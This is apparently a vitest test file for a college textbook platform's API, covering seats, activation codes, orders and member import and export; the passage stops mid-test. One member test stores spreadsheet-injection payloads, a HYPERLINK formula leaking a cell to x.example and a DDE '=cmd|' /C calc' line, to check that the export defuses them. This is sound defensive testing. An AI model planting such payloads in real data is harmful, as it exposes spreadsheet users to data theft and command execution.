import { beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import {
  Code,
  CollegeMsg,
  type CodeRow,
  type CollegeBookRow,
  type CollegeOrderRow,
  type ImportResult,
  type Paged,
} from '@textbook/contracts';
import { buildBook } from '../../../test/classes.js';
import { buildCollege, buildMember, buildStaff, uniquePhone, type BuiltMember } from '../../../test/factories.js';
import { call, expectOk, expectRefused, useTestApp, type TestApp } from '../../../test/helpers.js';
import { pdfText } from '../../../test/pdf-text.js';
import { cjkFont } from '../reader/index.js';

interface World {
  college: { id: number; name: string };
  other: { id: number; name: string };
  admin: BuiltMember;
  otherAdmin: BuiltMember;
  teacher: BuiltMember;
  students: BuiltMember[];
  outsider: BuiltMember;
  staff: { id: number; token: string };
  bookId: number;
}

async function buildWorld(t: TestApp): Promise<World> {
  const db = t.ctx.db;
  const college = await buildCollege(db);
  const other = await buildCollege(db);
  return {
    college,
    other,
    admin: await buildMember(db, { college, roles: '1' }),
    otherAdmin: await buildMember(db, { college: other, roles: '1' }),
    teacher: await buildMember(db, { college, roles: '2' }),
    students: await Promise.all([0, 1, 2, 3].map(() => buildMember(db, { college, roles: '3' }))),
    outsider: await buildMember(db, { college: other, roles: '3' }),
    staff: await buildStaff(db),
    bookId: await buildBook(db, { title: '高等数学' }),
  };
}

/** Staff give the college `seats` seats of the book (through the ledger); answers the college book. */
export async function seatBook(t: TestApp, w: World, seats: number, bookId = w.bookId): Promise<CollegeBookRow> {
  return expectOk(
    await call<CollegeBookRow>(t.app, {
      method: 'POST',
      url: '/api/admin/collegeBook/adjust',
      token: w.staff.token,
      payload: { collegeId: w.college.id, bookId, delta: seats, reason: '测试赠送' },
    }),
  );
}

/** The counts shown equal the ledger's sums, recomputed from its rows. */
async function expectLedgerMatches(t: TestApp, collegeBookId: number) {
  const cb = await t.ctx.db
    .selectFrom('college_books')
    .select(['bought_count', 'given_count'])
    .where('id', '=', collegeBookId)
    .executeTakeFirstOrThrow();
  const rows = await t.ctx.db
    .selectFrom('college_seat_ledger')
    .select(['bought_delta', 'given_delta'])
    .where('college_book_id', '=', collegeBookId)
    .execute();
  const bought = rows.reduce((s, r) => s + Number(r.bought_delta), 0);
  const given = rows.reduce((s, r) => s + Number(r.given_delta), 0);
  expect({ bought: Number(cb.bought_count), given: Number(cb.given_count) }).toEqual({ bought, given });
  const holders = await t.ctx.db
    .selectFrom('college_authorizations')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('college_book_id', '=', collegeBookId)
    .executeTakeFirstOrThrow();
  expect(Number(holders.n)).toBe(given);
  return { bought, given };
}

function shelfEntry(t: TestApp, memberId: number, bookId: number) {
  return t.ctx.db
    .selectFrom('shelf_entries')
    .select(['source', 'college_id as collegeId', 'source_ref as sourceRef'])
    .where('member_id', '=', memberId)
    .where('book_id', '=', bookId)
    .where('source', '=', 'authorization')
    .executeTakeFirst();
}

describe('college books and seats', () => {
  const t = useTestApp();
  let w: World;
  let cb: CollegeBookRow;

  beforeAll(async () => {
    w = await buildWorld(t);
  });

  it('the admin adds a book (no seats); staff give seats through the ledger; the page shows the counts', async () => {
    const added = expectOk(
      await call<CollegeBookRow>(t.app, {
        method: 'POST',
        url: '/api/collegeBook/save',
        token: w.admin.token,
        payload: { bookId: w.bookId },
      }),
    );
    expect(added).toMatchObject({ bookName: '高等数学', boughtCount: 0, givenCount: 0, residueAuthorizeCount: 0 });
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/save',
        token: w.admin.token,
        payload: { bookId: w.bookId },
      }),
      CollegeMsg.BOOK_ALREADY,
    );
    cb = await seatBook(t, w, 3);
    expect(cb).toMatchObject({ id: added.id, boughtCount: 3, residueAuthorizeCount: 3 });
    const page = expectOk(
      await call<Paged<CollegeBookRow>>(t.app, { url: '/api/collegeBook/page', token: w.admin.token }),
    );
    expect(page.total).toBe(1);
    expect(page.rows[0]).toMatchObject({ bookId: w.bookId, boughtCount: 3, givenCount: 0, residueAuthorizeCount: 3 });
    await expectLedgerMatches(t, cb.id);
  });

  it('another college’s admin, a teacher, a student, a visitor are refused', async () => {
    for (const token of [w.teacher.token, w.students[0]!.token]) {
      const res = await call(t.app, { url: '/api/collegeBook/page', token });
      expect(res.status).toBe(403);
    }
    expect((await call(t.app, { url: '/api/collegeBook/page' })).status).toBe(401);
    // Another college's admin sees only their own college's books, and is refused this one.
    const theirs = expectOk(
      await call<Paged<CollegeBookRow>>(t.app, { url: '/api/collegeBook/page', token: w.otherAdmin.token }),
    );
    expect(theirs.total).toBe(0);
    for (const url of [`/api/collegeBook/detail?id=${cb.id}`, `/api/collegeBookActiveCode/page?id=${cb.id}`]) {
      const res = await call(t.app, { url, token: w.otherAdmin.token });
      expect(res.status).toBe(403);
      expect(res.body.data).toBeNull();
    }
    const grab = await call(t.app, {
      method: 'POST',
      url: '/api/collegeBook/bookAuthorize',
      token: w.otherAdmin.token,
      payload: { id: cb.id, memberIds: [w.outsider.id] },
    });
    expect(grab.status).toBe(403);
    // A member cannot adjust seats; staff only.
    const mint = await call(t.app, {
      method: 'POST',
      url: '/api/admin/collegeBook/adjust',
      token: w.admin.token,
      payload: { collegeId: w.college.id, bookId: w.bookId, delta: 100, reason: 'x' },
    });
    expect(mint.status).toBe(403);
  });

  it('authorizes chosen members: shelf entry of the college; more than left is refused; outsiders refused', async () => {
    const [a, b, c, d] = w.students;
    const ok = await call<{ granted: number }>(t.app, {
      method: 'POST',
      url: '/api/collegeBook/bookAuthorize',
      token: w.admin.token,
      payload: { id: cb.id, memberIds: [a!.id, b!.id] },
    });
    expect(ok.body).toMatchObject({ code: Code.OK, msg: CollegeMsg.AUTHORIZED(2), data: { granted: 2, already: 0 } });
    expect(await shelfEntry(t, a!.id, w.bookId)).toMatchObject({ collegeId: w.college.id, sourceRef: w.college.id });
    // Again: already held, no seat used.
    const again = expectOk(
      await call<{ granted: number; already: number }>(t.app, {
        method: 'POST',
        url: '/api/collegeBook/bookAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [a!.id] },
      }),
    );
    expect(again).toEqual({ granted: 0, already: 1 });
    // Two new holders, one seat left: nothing is given.
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/bookAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [c!.id, d!.id] },
      }),
      CollegeMsg.SEATS_SHORT(1),
    );
    expect(await shelfEntry(t, c!.id, w.bookId)).toBeUndefined();
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/bookAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [w.outsider.id] },
      }),
      CollegeMsg.NOT_COLLEGE_MEMBERS,
    );
    const counts = expectOk(
      await call(t.app, { url: `/api/collegeBook/residueAuthorizeCount?id=${cb.id}`, token: w.admin.token }),
    );
    expect(counts).toEqual({ boughtCount: 3, givenCount: 2, residueAuthorizeCount: 1 });
    await expectLedgerMatches(t, cb.id);
  });

  it('the holder reads the book in this college; the access function asks to switch in another', async () => {
    const a = w.students[0]!;
    const readable = expectOk(
      await call<{ readable: boolean }>(t.app, { url: `/api/book/readAccess?bookId=${w.bookId}`, token: a.token }),
    );
    expect(readable).toMatchObject({ readable: true });
  });

  it('lists holders, exports them (xlsx cells, text lines), lists my authorizations', async () => {
    const holders = expectOk(
      await call<Paged<{ memberId: number }>>(t.app, {
        url: `/api/collegeBook/getAuthorizeMember?id=${cb.id}`,
        token: w.admin.token,
      }),
    );
    expect(holders.rows.map((r) => r.memberId).sort()).toEqual([w.students[0]!.id, w.students[1]!.id].sort());
    const xlsx = await t.app.inject({
      url: `/api/collegeBook/exportBookAuthorize?id=${cb.id}&type=0`,
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.getRow(1).getCell(2).value).toBe('手机号');
    const phones = [sheet.getRow(2).getCell(2).value, sheet.getRow(3).getCell(2).value].sort();
    expect(phones).toEqual([w.students[0]!.phone, w.students[1]!.phone].sort());
    const text = await t.app.inject({
      url: `/api/collegeBook/exportBookAuthorize?id=${cb.id}&type=1`,
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const lines = text.body.trim().split('\n');
    expect(lines[0]).toBe('姓名\t手机号\t学号\t方式\t授权时间\t到期时间');
    expect(lines).toHaveLength(3);
    const mine = expectOk(
      await call<{ bookId: number; collegeName: string }[]>(t.app, {
        url: '/api/collegeBook/myBookAuthorize',
        token: w.students[0]!.token,
      }),
    );
    expect(mine).toEqual([expect.objectContaining({ bookId: w.bookId, collegeName: w.college.name, via: 'grant' })]);
  });

  it('revokes: the shelf entry goes, the seat is left again, the ledger still sums to the counts', async () => {
    const b = w.students[1]!;
    expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/revokeAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [b.id] },
      }),
    );
    expect(await shelfEntry(t, b.id, w.bookId)).toBeUndefined();
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/revokeAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [b.id] },
      }),
      CollegeMsg.NOT_HELD,
    );
    expect(await expectLedgerMatches(t, cb.id)).toEqual({ bought: 3, given: 1 });
  });

  it('authorizes every approved student of a class at once', async () => {
    const book2 = await buildBook(t.ctx.db);
    const cb2 = await seatBook(t, w, 10, book2);
    const now = Date.now();
    const { id: classId } = await t.ctx.db
      .insertInto('classes')
      .values({
        college_id: w.college.id,
        teacher_id: w.teacher.id,
        book_id: book2,
        name: '一班',
        code: `C${now}`.slice(0, 16),
        is_review: '1',
        start_time: now,
        end_time: now + 86_400_000,
        created_at: now,
        updated_at: now,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    for (const s of w.students.slice(0, 3)) {
      await t.ctx.db
        .insertInto('class_students')
        .values({ class_id: classId, member_id: s.id, student_id: 'S', name: '生', status: 1, created_at: now })
        .execute();
    }
    const classes = expectOk(
      await call<{ id: number; studentCount: number }[]>(t.app, {
        url: `/api/collegeBook/classes?id=${cb2.id}`,
        token: w.admin.token,
      }),
    );
    expect(classes).toEqual([expect.objectContaining({ id: classId, studentCount: 3 })]);
    const res = expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/bookAuthorize',
        token: w.admin.token,
        payload: { id: cb2.id, classId },
      }),
    );
    expect(res).toEqual({ granted: 3, already: 0 });
    expect(await expectLedgerMatches(t, cb2.id)).toEqual({ bought: 10, given: 3 });
    // The ledger, read back as an export: one row per change.
    const text = await t.app.inject({
      url: `/api/collegeBook/download?id=${cb2.id}&type=1`,
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const lines = text.body.trim().split('\n');
    expect(lines).toHaveLength(1 + 1 + 3);
    expect(lines[1]).toContain('调整\t10\t0');
    expect(lines.filter((l) => l.includes('授权\t0\t1'))).toHaveLength(3);
    // A book whose seats moved cannot leave the list.
    expectRefused(
      await call(t.app, { url: `/api/collegeBook/delete?id=${cb2.id}`, token: w.admin.token }),
      CollegeMsg.BOOK_HAS_SEATS,
    );
  });
});

describe('activation codes', () => {
  const t = useTestApp();
  let w: World;
  let cb: CollegeBookRow;
  let codes: string[];

  beforeAll(async () => {
    w = await buildWorld(t);
    cb = await seatBook(t, w, 5);
  });

  it('generates a batch: no look-alike characters, unique, no more than seats left', async () => {
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBookActiveCode/generate',
        token: w.admin.token,
        payload: { id: cb.id, count: 6, days: 30 },
      }),
      CollegeMsg.SEATS_SHORT(5),
    );
    const batch = expectOk(
      await call<{ codes: string[]; count: number }>(t.app, {
        method: 'POST',
        url: '/api/collegeBookActiveCode/generate',
        token: w.admin.token,
        payload: { id: cb.id, count: 4, days: 30 },
      }),
    );
    codes = batch.codes;
    expect(codes).toHaveLength(4);
    expect(new Set(codes).size).toBe(4);
    for (const code of codes) expect(code).toMatch(/^[A-HJKMNP-Z2-9]{4}-[A-HJKMNP-Z2-9]{4}-[A-HJKMNP-Z2-9]{4}$/);
    const other = await call(t.app, {
      method: 'POST',
      url: '/api/collegeBookActiveCode/generate',
      token: w.otherAdmin.token,
      payload: { id: cb.id, count: 1, days: 30 },
    });
    expect(other.status).toBe(403);
  });

  it('a member redeems a code (typed in lower case, no dashes): one seat, the book on the shelf', async () => {
    const student = w.students[0]!;
    const res = await call<{ bookId: number }>(t.app, {
      method: 'POST',
      url: '/api/collegeBookActiveCode/redeem',
      token: student.token,
      payload: { code: codes[0]!.replaceAll('-', '').toLowerCase() },
    });
    expect(res.body).toMatchObject({ code: Code.OK, msg: CollegeMsg.CODE_OK('高等数学'), data: { bookId: w.bookId } });
    expect(await shelfEntry(t, student.id, w.bookId)).toMatchObject({ collegeId: w.college.id });
    expect(await expectLedgerMatches(t, cb.id)).toEqual({ bought: 5, given: 1 });
  });

  it('tells a wrong code from a used, expired or revoked one; the holder keeps a second code unused', async () => {
    const [, b, c] = w.students;
    const redeem = (token: string, code: string) =>
      call(t.app, { method: 'POST', url: '/api/collegeBookActiveCode/redeem', token, payload: { code } });
    expectRefused(await redeem(b!.token, 'ABCD-EFGH-JKMN'), CollegeMsg.CODE_WRONG);
    expectRefused(await redeem(b!.token, 'O0O0-I1I1-LLLL'), CollegeMsg.CODE_WRONG);
    expectRefused(await redeem(b!.token, codes[0]!), CollegeMsg.CODE_USED);
    expectRefused(await redeem(w.students[0]!.token, codes[1]!), CollegeMsg.CODE_ALREADY_HELD);
    expectRefused(await redeem(w.outsider.token, codes[1]!), CollegeMsg.CODE_OTHER_COLLEGE(w.college.name));
    await t.ctx.db
      .updateTable('college_active_codes')
      .set({ expires_at: Date.now() - 1 })
      .where('code', '=', codes[2]!.replaceAll('-', ''))
      .execute();
    expectRefused(await redeem(c!.token, codes[2]!), CollegeMsg.CODE_EXPIRED);
    const page = expectOk(
      await call<Paged<CodeRow>>(t.app, { url: `/api/collegeBookActiveCode/page?id=${cb.id}`, token: w.admin.token }),
    );
    const toRevoke = page.rows.find((r) => r.code === codes[3])!;
    expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBookActiveCode/revoke',
        token: w.admin.token,
        payload: { id: toRevoke.id },
      }),
    );
    expectRefused(await redeem(c!.token, codes[3]!), CollegeMsg.CODE_REVOKED);
    const states = expectOk(
      await call<Paged<CodeRow>>(t.app, { url: `/api/collegeBookActiveCode/page?id=${cb.id}`, token: w.admin.token }),
    );
    const byCode = Object.fromEntries(states.rows.map((r) => [r.code, r]));
    expect(byCode[codes[0]!]).toMatchObject({ state: 'redeemed', redeemedBy: expect.any(String) });
    expect(byCode[codes[0]!]!.redeemedAt).toBeGreaterThan(0);
    expect(byCode[codes[1]!]).toMatchObject({ state: 'unused' });
    expect(byCode[codes[2]!]).toMatchObject({ state: 'expired' });
    expect(byCode[codes[3]!]).toMatchObject({ state: 'revoked' });
    const unused = expectOk(
      await call<Paged<CodeRow>>(t.app, {
        url: `/api/collegeBookActiveCode/page?id=${cb.id}&state=unused`,
        token: w.admin.token,
      }),
    );
    expect(unused.rows.map((r) => r.code)).toEqual([codes[1]]);
  });

  it('exports the codes: xlsx cells, text lines, pdf text', async () => {
    const get = (type: number) =>
      t.app.inject({
        url: `/api/collegeBookActiveCode/export?id=${cb.id}&type=${type}`,
        headers: { authorization: `Bearer ${w.admin.token}` },
      });
    const xlsx = await get(0);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).value).toBe('激活码');
    const cells = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(1).value);
    expect(cells).toEqual(codes);
    expect(sheet.getRow(2).getCell(2).value).toBe('已使用');
    const text = (await get(1)).body.trim().split('\n');
    expect(text).toHaveLength(5);
    expect(text[2]!.startsWith(`${codes[1]}\t未使用`)).toBe(true);
    const pdf = await get(2);
    if (cjkFont(t.ctx.config.pdfFont)) {
      expect(pdf.headers['content-type']).toBe('application/pdf');
      const lines = pdfText(pdf.rawPayload);
      expect(lines[0]).toBe('高等数学-激活码');
      for (const code of codes) expect(lines.some((l) => l.startsWith(code))).toBe(true);
    } else {
      expect(pdf.json()).toMatchObject({ code: Code.REFUSED });
    }
  });

  it('rate-limits redemption attempts', async () => {
    const m = await buildMember(t.ctx.db, { college: w.college, roles: '3' });
    const answers = [];
    for (let i = 0; i < 12; i += 1) {
      answers.push(
        await call(t.app, {
          method: 'POST',
          url: '/api/collegeBookActiveCode/redeem',
          token: m.token,
          payload: { code: 'ABCD-EFGH-JKMN' },
        }),
      );
    }
    expect(answers.slice(0, 10).every((a) => a.body.msg === CollegeMsg.CODE_WRONG)).toBe(true);
    expectRefused(answers[11]!, CollegeMsg.CODE_TOO_OFTEN, 429);
  });
});

describe('college orders', () => {
  const t = useTestApp();
  let w: World;

  beforeAll(async () => {
    w = await buildWorld(t);
  });

  it('the admin orders seats; staff confirm once; the seats arrive through the ledger', async () => {
    const order = await call<CollegeOrderRow>(t.app, {
      method: 'POST',
      url: '/api/collegeOrder/orderBook',
      token: w.admin.token,
      payload: { bookId: w.bookId, quantity: 40, termMonths: 12 },
    });
    expect(order.body).toMatchObject({ msg: CollegeMsg.ORDER_SUBMITTED, data: { status: 0, quantity: 40 } });
    const id = order.body.data.id;
    for (const token of [w.teacher.token, w.students[0]!.token]) {
      expect(
        (
          await call(t.app, {
            method: 'POST',
            url: '/api/collegeOrder/orderBook',
            token,
            payload: { bookId: w.bookId, quantity: 1, termMonths: 1 },
          })
        ).status,
      ).toBe(403);
    }
    expect((await call(t.app, { url: `/api/collegeOrder/detail?id=${id}`, token: w.otherAdmin.token })).status).toBe(
      403,
    );
    expect(
      (
        await call(t.app, {
          method: 'POST',
          url: '/api/admin/collegeOrder/confirm',
          token: w.admin.token,
          payload: { id },
        })
      ).status,
    ).toBe(403);
    const confirmed = expectOk(
      await call<CollegeOrderRow>(t.app, {
        method: 'POST',
        url: '/api/admin/collegeOrder/confirm',
        token: w.staff.token,
        payload: { id },
      }),
    );
    expect(confirmed.status).toBe(1);
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/admin/collegeOrder/confirm',
        token: w.staff.token,
        payload: { id },
      }),
      CollegeMsg.ORDER_DECIDED,
    );
    const page = expectOk(
      await call<Paged<CollegeBookRow>>(t.app, { url: '/api/collegeBook/page', token: w.admin.token }),
    );
    expect(page.rows[0]).toMatchObject({ bookId: w.bookId, boughtCount: 40, residueAuthorizeCount: 40 });
    expect(page.rows[0]!.expiresAt).toBeGreaterThan(Date.now());
    await expectLedgerMatches(t, page.rows[0]!.id);
    const mine = expectOk(
      await call<Paged<CollegeOrderRow>>(t.app, { url: '/api/collegeOrder/page', token: w.admin.token }),
    );
    expect(mine.rows.map((r) => r.id)).toEqual([id]);
    const theirs = expectOk(
      await call<Paged<CollegeOrderRow>>(t.app, { url: '/api/collegeOrder/page', token: w.otherAdmin.token }),
    );
    expect(theirs.total).toBe(0);
  });
});

describe('college details and members', () => {
  const t = useTestApp();
  let w: World;

  beforeAll(async () => {
    w = await buildWorld(t);
  });

  it('its admin edits the details; members read them; others may not edit', async () => {
    const edited = expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/college/update',
        token: w.admin.token,
        payload: {
          name: w.college.name,
          contact: '王老师',
          phone: '010-12345678',
          address: '北京',
          introduction: '简介',
        },
      }),
    );
    expect(edited).toMatchObject({ contact: '王老师', memberCount: 6 });
    const read = expectOk(await call(t.app, { url: '/api/college/detail', token: w.students[0]!.token }));
    expect(read).toMatchObject({ id: w.college.id, address: '北京' });
    expect(
      (
        await call(t.app, {
          method: 'POST',
          url: '/api/college/update',
          token: w.teacher.token,
          payload: { name: 'x' },
        })
      ).status,
    ).toBe(403);
    const other = expectOk(await call(t.app, { url: '/api/college/detail', token: w.otherAdmin.token }));
    expect(other).toMatchObject({ id: w.other.id });
  });

  it('lists members with search and role; never another college’s', async () => {
    const all = expectOk(
      await call<Paged<{ memberId: number }>>(t.app, { url: '/api/collegeUser/page', token: w.admin.token }),
    );
    expect(all.total).toBe(6);
    const students = expectOk(
      await call<Paged<{ memberId: number }>>(t.app, { url: '/api/collegeUser/page?role=3', token: w.admin.token }),
    );
    expect(students.total).toBe(4);
    const byPhone = expectOk(
      await call<Paged<{ memberId: number }>>(t.app, {
        url: `/api/collegeUser/page?keyword=${w.teacher.phone}`,
        token: w.admin.token,
      }),
    );
    expect(byPhone.rows.map((r) => r.memberId)).toEqual([w.teacher.id]);
    const none = expectOk(
      await call<Paged<{ memberId: number }>>(t.app, {
        url: `/api/collegeUser/page?keyword=${w.teacher.phone}`,
        token: w.otherAdmin.token,
      }),
    );
    expect(none.total).toBe(0);
  });

  it('adds a member by phone (a new phone gets an account and an SMS), edits roles, removes; exports', async () => {
    const phone = uniquePhone();
    const before = expectOk(
      await call<{ exists: boolean }>(t.app, {
        url: `/api/collegeUser/getNameByPhone?phone=${phone}`,
        token: w.admin.token,
      }),
    );
    expect(before).toEqual({ exists: false, name: '', inCollege: false });
    expectRefused(
      await call(t.app, { url: '/api/collegeUser/getNameByPhone?phone=12345', token: w.admin.token }),
      '手机号格式不正确',
    );
    const added = await call<{ id: number; memberId: number; roles: number[] }>(t.app, {
      method: 'POST',
      url: '/api/collegeUser/save',
      token: w.admin.token,
      payload: { phone, realName: '李老师', studentId: '', roles: [2] },
    });
    expect(added.body).toMatchObject({ msg: CollegeMsg.USER_ADDED, data: { roles: [2], realName: '李老师' } });
    const sms = await t.ctx.db.selectFrom('sms_outbox').select('content').where('phone', '=', phone).execute();
    expect(sms).toHaveLength(1);
    expect(sms[0]!.content).toContain(w.college.name);
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeUser/save',
        token: w.admin.token,
        payload: { phone, roles: [3] },
      }),
      CollegeMsg.USER_EXISTS,
    );
    const after = expectOk(
      await call(t.app, { url: `/api/collegeUser/getNameByPhone?phone=${phone}`, token: w.admin.token }),
    );
    expect(after).toEqual({ exists: true, name: '李老师', inCollege: true });
    const id = added.body.data.id;
    expect((await call(t.app, { url: `/api/collegeUser/detail?id=${id}`, token: w.otherAdmin.token })).status).toBe(
      403,
    );
    const edited = expectOk(
      await call<{ roles: number[]; studentId: string }>(t.app, {
        method: 'POST',
        url: '/api/collegeUser/update',
        token: w.admin.token,
        payload: { id, realName: '李老师', studentId: 'T01', roles: [2, 3] },
      }),
    );
    expect(edited).toMatchObject({ roles: [2, 3], studentId: 'T01' });
    // The admin cannot drop their own admin role nor remove themselves.
    const self = expectOk(
      await call<{ rows: { id: number; memberId: number }[] }>(t.app, {
        url: `/api/collegeUser/page?keyword=${w.admin.phone}`,
        token: w.admin.token,
      }),
    ).rows[0]!;
    expectRefused(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeUser/update',
        token: w.admin.token,
        payload: { id: self.id, roles: [2] },
      }),
      CollegeMsg.SELF_ADMIN,
    );
    expectRefused(
      await call(t.app, { url: `/api/collegeUser/delete?id=${self.id}`, token: w.admin.token }),
      CollegeMsg.SELF_ADMIN,
    );
    const text = await t.app.inject({
      url: '/api/collegeUser/export?type=1',
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const lines = text.body.trim().split('\n');
    expect(lines[0]).toBe('姓名\t手机号\t学号\t角色');
    expect(lines.find((l) => l.includes(phone))).toBe(`李老师\t${phone}\tT01\t教师、学生`);
    // Cells a spreadsheet would take for formulas are kept as text (a leading apostrophe); a tab or line break in
    // a cell cannot start another cell or row.
    const hostile = uniquePhone();
    expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeUser/save',
        token: w.admin.token,
        payload: {
          phone: hostile,
          realName: '=HYPERLINK("http://x.example/?"&A1,"点我")',
          studentId: "=cmd|' /C calc'!A0",
          roles: [3],
        },
      }),
    );
    const exported = async () =>
      (
        await t.app.inject({
          url: '/api/collegeUser/export?type=1',
          headers: { authorization: `Bearer ${w.admin.token}` },
        })
      ).body;
    expect((await exported()).split('\n').find((l) => l.includes(hostile))).toBe(
      `'=HYPERLINK("http://x.example/?"&A1,"点我")\t${hostile}\t'=cmd|' /C calc'!A0\t学生`,
    );
    const hostileUpdate = expectOk(
      await call<{ rows: { id: number }[] }>(t.app, {
        url: `/api/collegeUser/page?keyword=${hostile}`,
        token: w.admin.token,
      }),
    ).rows[0]!;
    expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeUser/update',
        token: w.admin.token,
        payload: { id: hostileUpdate.id, realName: '@SUM(1+1)', studentId: 'a\t=1+1\nb', roles: [3] },
      }),
    );
    const again = await exported();
    expect(again.split('\n').find((l) => l.includes(hostile))).toBe(`'@SUM(1+1)\t${hostile}\ta =1+1 b\t学生`);
    for (const line of again.trim().split('\n')) {
      for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+\-@]/);
    }
    expectOk(await call(t.app, { url: `/api/collegeUser/delete?id=${hostileUpdate.id}`, token: w.admin.token }));
    expectOk(await call(t.app, { url: `/api/collegeUser/delete?id=${id}`, token: w.admin.token }));
    expect((await call(t.app, { url: `/api/collegeUser/detail?id=${id}`, token: w.admin.token })).status).toBe(404);
  });

  it('removing a member gives their seats back through the ledger', async () => {
    const cb = await seatBook(t, w, 2);
    const s = w.students[3]!;
    expectOk(
      await call(t.app, {
        method: 'POST',
        url: '/api/collegeBook/bookAuthorize',
        token: w.admin.token,
        payload: { id: cb.id, memberIds: [s.id] },
      }),
    );
    const row = expectOk(
      await call<{ rows: { id: number }[] }>(t.app, {
        url: `/api/collegeUser/page?keyword=${s.phone}`,
        token: w.admin.token,
      }),
    ).rows[0]!;
    expectOk(await call(t.app, { url: `/api/collegeUser/delete?id=${row.id}`, token: w.admin.token }));
    expect(await shelfEntry(t, s.id, w.bookId)).toBeUndefined();
    expect(await expectLedgerMatches(t, cb.id)).toEqual({ bought: 2, given: 0 });
  });

  it('imports members from the template: 30 students added, an existing member updated, bad rows refused', async () => {
    const template = await t.app.inject({
      url: '/api/collegeUser/template',
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(template.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect([1, 2, 3, 4].map((c) => sheet.getRow(1).getCell(c).value)).toEqual(['手机号', '姓名', '学号', '角色']);
    sheet.spliceRows(2, 1);
    const phones = Array.from({ length: 30 }, () => uniquePhone());
    phones.forEach((phone, i) => sheet.addRow([phone, `导入学生${i + 1}`, `S${1000 + i}`, '学生']));
    sheet.addRow([w.teacher.phone, '张老师', 'T9', '教师']);
    sheet.addRow(['12345', '错号', '', '学生']);
    sheet.addRow([phones[0], '重复', '', '学生']);
    sheet.addRow([uniquePhone(), '怪角色', '', '校长']);
    const bytes = Buffer.from(await book.xlsx.writeBuffer());
    const form = new FormData();
    form.append('file', new Blob([bytes]), 'members.xlsx');
    const request = new Request('http://local/', { method: 'POST', body: form });
    const result = expectOk(
      await call<ImportResult>(t.app, {
        method: 'POST',
        url: '/api/collegeUser/import',
        token: w.admin.token,
        payload: Buffer.from(await request.arrayBuffer()),
        headers: { 'content-type': request.headers.get('content-type') ?? '' },
      }),
    );
    expect(result).toMatchObject({ added: 30, updated: 1, refused: 3 });
    expect(result.rows.filter((r) => r.result === 'refused').map((r) => [r.row, r.reason])).toEqual([
      [33, '手机号格式不正确'],
      [34, CollegeMsg.IMPORT_DUPLICATE],
      [35, CollegeMsg.IMPORT_ROLE],
    ]);
    const students = expectOk(
      await call<Paged<{ phone: string; studentId: string }>>(t.app, {
        url: '/api/collegeUser/page?keyword=导入学生&pageSize=100',
        token: w.admin.token,
      }),
    );
    expect(students.total).toBe(30);
    const refusedPhone = result.rows.find((r) => r.row === 35)!.phone;
    expect(
      await t.ctx.db.selectFrom('members').select('id').where('phone', '=', refusedPhone).executeTakeFirst(),
    ).toBeUndefined();
    expectRefused(
      await call(t.app, { method: 'POST', url: '/api/collegeUser/import', token: w.admin.token, payload: { x: 1 } }),
      CollegeMsg.IMPORT_FILE,
    );
  });

  it('the template’s example row says it is one and is skipped, not imported; a file of only it is refused', async () => {
    const template = await t.app.inject({
      url: '/api/collegeUser/template',
      headers: { authorization: `Bearer ${w.admin.token}` },
    });
    const upload = async (book: ExcelJS.Workbook) => {
      const form = new FormData();
      form.append('file', new Blob([Buffer.from(await book.xlsx.writeBuffer())]), 'members.xlsx');
      const request = new Request('http://local/', { method: 'POST', body: form });
      return call<ImportResult>(t.app, {
        method: 'POST',
        url: '/api/collegeUser/import',
        token: w.admin.token,
        payload: Buffer.from(await request.arrayBuffer()),
        headers: { 'content-type': request.headers.get('content-type') ?? '' },
      });
    };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(template.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const example = [1, 2, 3, 4].map((c) => String(sheet.getRow(2).getCell(c).value));
    expect(example[1]).toContain('示例');
    // The template as downloaded: only its example, refused with the reason.
    expectRefused(await upload(book), CollegeMsg.IMPORT_ONLY_EXAMPLES);
    // Filled in below the example, which is left where it is: the members written in, the example skipped.
    const phones = [uniquePhone(), uniquePhone()];
    sheet.addRow([phones[0], '示例下的学生甲', 'E1', '学生']);
    sheet.addRow([phones[1], '示例下的学生乙', 'E2', '学生']);
    const result = expectOk(await upload(book));
    expect(result).toMatchObject({ added: 2, updated: 0, refused: 0, examples: 1 });
    expect(result.rows.find((r) => r.row === 2)).toEqual({
      row: 2,
      phone: example[0],
      result: 'example',
